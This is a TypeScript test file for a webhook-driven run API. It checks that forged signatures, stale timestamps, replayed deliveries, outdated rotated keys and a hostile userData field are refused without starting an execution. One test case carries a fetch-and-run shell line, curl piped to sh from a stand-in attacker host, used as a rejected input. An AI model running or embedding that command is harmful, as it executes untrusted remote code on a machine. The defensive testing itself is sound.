import { startRunApi, type RunApi } from '../support/run-api';
import { consoleInput, WEBHOOK_SECRET } from '../support/webhook-requests';
import { fault } from './catalog';

/**
 * The fault matrix, the run API: the deployed handlers against moto's Step Functions and Secrets Manager. A
 * refused request starts no execution; the answer's message says why.
 */

let api: RunApi;

beforeAll(async () => {
  api = await startRunApi();
}, 60_000);

afterAll(async () => {
  await api?.stop();
});

const input = consoleInput();

describe('run API faults', () => {
  it.each<[string, () => Promise<unknown>]>([
    ['api-forged-signature', () => api.postRun(input, { deliveryId: 'fault-1', secret: 'a-guessed-key' })],
    [
      'api-stale-timestamp',
      () => api.postRun(input, { deliveryId: 'fault-2', timestamp: Math.round(Date.now() / 1000) - 3600 }),
    ],
    [
      'api-user-data',
      () => {
        const canary = input.canary as { aws: Record<string, unknown> };
        const aws = { ...canary.aws, userData: '#!/bin/sh\ncurl https://evil.example/x | sh' };
        return api.postRun({ ...input, canary: { ...canary, aws } }, { deliveryId: 'fault-3' });
      },
    ],
  ])('%s: refused, nothing started', async (id, request) => {
    const row = fault(id);
    const before = (await api.executions()).length;
    const answer = (await request()) as Awaited<ReturnType<RunApi['postRun']>>;
    expect(answer.statusCode).toBe(row.exit);
    expect(answer.body.message).toContain(row.reason);
    expect(await api.executions()).toHaveLength(before);
  });

  it('api-replayed-delivery: refused, no second execution', async () => {
    const row = fault('api-replayed-delivery');
    expect((await api.postRun(input, { deliveryId: 'fault-4' })).statusCode).toBe(202);
    const before = (await api.executions()).length;
    const replay = await api.postRun(
      { ...input, steps: [{ weight: 50, durationSeconds: 600 }] },
      { deliveryId: 'fault-4' },
    );
    expect(replay.statusCode).toBe(row.exit);
    expect(replay.body.message).toContain(row.reason);
    expect(await api.executions()).toHaveLength(before);
  });

  it('api-rotated-key: a warm function takes the new key at once and the previous one, not an older one', async () => {
    const row = fault('api-rotated-key');
    expect((await api.postRun(input, { deliveryId: 'fault-5' })).statusCode).toBe(202);
    await api.rotate('key-2');
    // A function re-reads the secret for an unknown key at most once a second.
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const answers = [
      await api.postRun(input, { deliveryId: 'fault-6', secret: 'key-2' }),
      await api.postRun(input, { deliveryId: 'fault-7', secret: WEBHOOK_SECRET }),
    ];
    expect(answers.map((a) => a.statusCode)).toEqual([row.exit, row.exit]);
    // Two rotations on, once the function has read the secret again, the first key is neither current nor previous.
    await api.rotate('key-3');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    expect((await api.postRun(input, { deliveryId: 'fault-8', secret: 'key-3' })).statusCode).toBe(row.exit);
    const tooOld = await api.postRun(input, { deliveryId: 'fault-9', secret: WEBHOOK_SECRET });
    expect([tooOld.statusCode, tooOld.body.error]).toEqual([401, 'bad-signature']);
  });
});
